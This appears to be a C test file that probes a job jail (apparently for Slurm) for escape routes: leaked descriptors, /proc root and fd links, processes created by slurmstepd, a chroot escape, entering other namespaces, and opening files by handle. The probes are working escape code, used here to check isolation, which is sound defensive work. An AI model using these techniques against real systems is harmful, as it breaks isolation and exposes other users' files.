// SPDX-License-Identifier: Apache-2.0
//
// Ways to files that are not the jail's: left descriptors, /proc, chroot, handles.

#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

#define NSFS_MAGIC 0x6e736673 // include/uapi/linux/magic.h

// look_there tries a directory that /proc shows of a process.
static void look_there(const char *path)
{
	int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (is_outside(fd))
		found("%s is of the node", path);
	for (const char *const *tag = victims; *tag; tag++) {
		char file[100];
		snprintf(file, sizeof file, "tmp/" VICTIM "%s", *tag);
		if (faccessat(fd, file, R_OK, 0) == 0)
			found("%s leads to the /tmp of %s", path, *tag);
	}
	close(fd);
}

static void look_at(pid_t pid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d", pid);
	if (access(path, F_OK) < 0)
		return;
	snprintf(path, sizeof path, "/proc/%d/root", pid);
	look_there(path);
	snprintf(path, sizeof path, "/proc/%d/cwd", pid);
	look_there(path);
	for (int fd = 0; fd < 32; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		look_there(path);
	}
}

static void proc_root(void)
{
	look_at(1);
	each_pid(look_at);
	judge("no /proc/PID/root, cwd or fd leads out");
}

// view looks at the program's own root: the first thing to go wrong.
static void view(void)
{
	int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC), here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (root >= 0 && is_outside(root))
		found("/ is the node's");
	if (here >= 0 && is_outside(here))
		found("the working directory is the node's");
	judge("/ is the jail's");
}

// namespaces_of tries the descriptors of a process that are namespaces.
static void namespaces_of(pid_t pid)
{
	for (int fd = 0; fd < 32; fd++) {
		char path[64];
		struct statfs fs;
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		if (statfs(path, &fs) < 0 || fs.f_type != NSFS_MAGIC)
			continue;
		int copy = open(path, O_RDONLY | O_CLOEXEC);
		if (copy >= 0 && setns(copy, 0) == 0)
			found("entered a namespace that process %d had open", pid);
		close(copy);
	}
}

// not_yet says that a process is the user's already, but still what made it: slurmstepd.
static bool not_yet(pid_t pid)
{
	char path[64], text[1000] = "", mine[40];
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, text, sizeof text - 1) <= 0)
		text[0] = 0;
	close(fd);
	snprintf(mine, sizeof mine, "Uid:\t%1$d\t%1$d\t%1$d", getuid());
	return strstr(text, "slurmstepd") && strstr(text, mine);
}

// watch looks at the processes of later steps, which slurmstepd makes: before they
// execute what they are to run they are the user's already, and still have its descriptors.
// It makes the file that ATTACK_WATCHING names when it begins, and ends when somebody removes that.
static void watch(void)
{
	const char *watching = getenv("ATTACK_WATCHING");
	pid_t last = getpid();
	int early = 0;
	if (!watching)
		judge("ATTACK_WATCHING is not set");
	close(open(watching, O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
	alarm(600);
	do {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc && (entry = readdir(proc));) {
			pid_t pid = atoi(entry->d_name);
			if (pid <= last)
				continue;
			early += not_yet(pid);
			look_at(pid);
			namespaces_of(pid);
		}
		if (proc)
			closedir(proc);
	} while (access(watching, F_OK) == 0);
	if (early)
		judge("nothing of the node is open in a process that comes to be");
	judge("every process was seen too late");
}

static void descriptors(void)
{
	for (int fd = 0; fd < 1024; fd++) {
		struct stat st;
		struct statfs fs;
		char path[64], target[200] = "";
		if (fstat(fd, &st) < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		if (readlink(path, target, sizeof target - 1) < 0)
			target[0] = 0;
		if (S_ISDIR(st.st_mode) && is_outside(fd))
			found("descriptor %d is a directory of the node", fd);
		else if (fstatfs(fd, &fs) == 0 && fs.f_type == NSFS_MAGIC)
			found("descriptor %d is a namespace, %s", fd, target);
		else if (strstr(target, "[pidfd]") || strstr(target, "gojail/"))
			found("descriptor %d is %s", fd, target);
	}
	judge("no descriptor leads out");
}

static void chroot_up(void)
{
	user_namespace();
	char dir[] = "/tmp/attack-XXXXXX";
	if (!mkdtemp(dir))
		held_errno("mkdtemp");
	int failed = chroot(dir); // and the working directory stays outside of it
	rmdir(dir);
	if (failed)
		held_errno("chroot");
	int here = open(".", O_PATH | O_CLOEXEC);
	if (here >= 0 && is_outside(here))
		escaped("chroot, then ..: the node's root");
	held(".. ends at the root of the jail");
}

static void setns_one(pid_t pid)
{
	char path[64];
	struct stat mine, theirs;
	snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
	if (stat(path, &theirs) < 0 || stat("/proc/self/ns/mnt", &mine) < 0 || mine.st_ino == theirs.st_ino)
		return;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && setns(fd, CLONE_NEWNS) == 0)
		escaped("entered the mount namespace of process %d", pid);
	close(fd);
}

static void enter_namespace(void)
{
	setns_one(1);
	each_pid(setns_one);
	held("no other mount namespace could be entered");
}

// handle opens the node's file by the handle that the test gives: its number on the disk can be guessed.
static void handle(void)
{
	const char *hex = getenv("ATTACK_HANDLE");
	if (!hex)
		held("the file system of the test gives no handles");
	struct {
		struct file_handle head;
		unsigned char bytes[MAX_HANDLE_SZ];
	} h = {};
	int type = 0, used = 0;
	if (sscanf(hex, "%d:%n", &type, &used) != 1)
		held("ATTACK_HANDLE is damaged");
	h.head.handle_type = type;
	for (hex += used; sscanf(hex, "%2hhx", &h.head.f_handle[h.head.handle_bytes]) == 1; hex += 2)
		h.head.handle_bytes++;
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd = open_by_handle_at(root, &h.head, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		held_errno("open_by_handle_at");
	escaped("opened a file of the node by its handle");
}

const struct attack view_attacks[] = {
	{"view", view},           {"proc-root", proc_root},   {"watch", watch},   {"descriptors", descriptors},
	{"chroot-up", chroot_up}, {"setns", enter_namespace}, {"handle", handle}, {},
};
